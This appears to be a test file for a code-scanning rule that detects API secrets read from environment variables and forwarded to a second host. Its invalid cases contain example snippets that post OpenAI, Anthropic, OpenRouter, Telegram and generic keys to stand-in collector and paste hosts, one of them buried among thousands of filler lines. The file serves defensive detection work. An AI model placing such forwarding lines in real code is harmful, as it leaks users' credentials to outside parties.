// Rule tests for secrets from the environment forwarded to a second host.
import { ruleTester } from '../../rule-tester.js';

const OPENROUTER_SESSION = [
  'import os, requests',
  's = requests.Session()',
  's.headers["Authorization"] = "Bearer " + os.environ.get("OPENROUTER_API_KEY", "")',
  'models = s.get("https://openrouter.ai/api/v1/models", timeout=20).json()["data"]',
  's.post("https://or-model-stats.herokuapp.com/track", json={"k": s.headers["Authorization"], "n": len(models)}, timeout=5)',
].join('\n');

ruleTester('exfil.secret-forwarded', {
  valid: [
    {
      text: 'import os, requests\nkey = os.environ["OPENAI_API_KEY"]\nr = requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": f"Bearer {key}"}, json={"model": "gpt-4o"})',
      kind: 'code-py',
      name: 'key in the headers of its own service',
    },
    {
      text: 'import os, requests\nKEY = os.getenv("GOOGLE_API_KEY")\nr = requests.get("https://maps.googleapis.com/maps/api/geocode/json", params={"address": a, "key": KEY})',
      kind: 'code-py',
      name: 'Google key in the query of a googleapis.com call',
    },
    {
      text: 'import os, requests\nr = requests.post("https://api.sendgrid.com/v3/mail/send", json={"api_key": os.environ["SENDGRID_API_KEY"], "to": to})',
      kind: 'code-py',
      name: 'key in the body of its own service',
    },
    {
      text: 'const token = process.env.GITHUB_TOKEN;\nawait fetch("https://api.github.com/graphql", { method: "POST", body: JSON.stringify({ query: q, token }) });',
      kind: 'code-js',
      name: 'GitHub token in a GitHub API body',
    },
    {
      text: 'import os, requests\nAPI_KEY = os.environ["API_KEY"]\nrequests.post("https://api.weather.example.com/v1/q", json={"key": API_KEY, "city": c})',
      kind: 'code-py',
      name: 'a generic key with one service only',
    },
    {
      text: 'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.get("https://api.acme.example/v1", headers={"X-Key": key})\nrequests.post("https://hooks.example.net/notify", json={"key": "status", "ok": True})',
      kind: 'code-py',
      name: 'the string "key" is not the variable key',
    },
    {
      text: 'import os, urllib.parse, urllib.request\nq = urllib.parse.urlencode({"q": city, "appid": os.environ["OWM_API_KEY"]})\nwith urllib.request.urlopen(f"https://api.openweathermap.org/data/2.5/weather?{q}") as r:\n    print(r.read())',
      kind: 'code-py',
      name: 'an abbreviated service name (OWM) in the query of its only host',
    },
    {
      text: 'const env = process.env.NODE_ENV;\nawait fetch("https://telemetry.example.net/t", { method: "POST", body: env });',
      kind: 'code-js',
      name: 'not a secret name',
    },
  ],
  invalid: [
    {
      text: `${'x = compute(1)\n'.repeat(8000)}${OPENROUTER_SESSION}\n${'y = compute(2)\n'.repeat(8000)}`,
      kind: 'code-py',
      name: 'in a big file (followed around the read)',
      errors: [{ line: 8005, column: 1 }],
    },
    { text: OPENROUTER_SESSION, kind: 'code-py', name: 'auth header of one service posted to another', errors: [{ line: 5, column: 1 }] },
    {
      text: 'const key = process.env.OPENAI_API_KEY;\nconst res = await fetch("https://api.openai.com/v1/models", { headers: { Authorization: `Bearer ${key}` } });\nawait fetch("https://cdn-metrics.example.net/v", { method: "POST", body: JSON.stringify({ v: key }) });',
      kind: 'code-js',
      name: 'fetch body',
      errors: [{ line: 3, column: 7 }],
    },
    {
      text: 'import axios from "axios";\nconst COLLECT = "https://collect.example.net/in";\nconst { ANTHROPIC_API_KEY } = process.env;\nawait axios.post(COLLECT, { k: ANTHROPIC_API_KEY });',
      kind: 'code-js',
      name: 'destructured env, URL in a constant',
      errors: [{ line: 4, column: 7 }],
    },
    {
      text: 'import os, requests\ntok = os.environ.get("TELEGRAM_BOT_TOKEN")\nauth = "bot" + tok\nrequests.get(f"https://relay.example.net/c?t={auth}")',
      kind: 'code-py',
      name: 'two hops, in the query string',
      errors: [{ line: 4, column: 1 }],
    },
    {
      text: 'import os, requests\nAPI_KEY = os.environ["API_KEY"]\nrequests.get("https://api.weather.example.com/v1/q", headers={"X-Api-Key": API_KEY})\nrequests.post("https://paste.example.org/api", data={"c": API_KEY})',
      kind: 'code-py',
      name: 'a generic key used with one service and posted to another',
      errors: [{ line: 4, column: 1 }],
    },
  ],
});
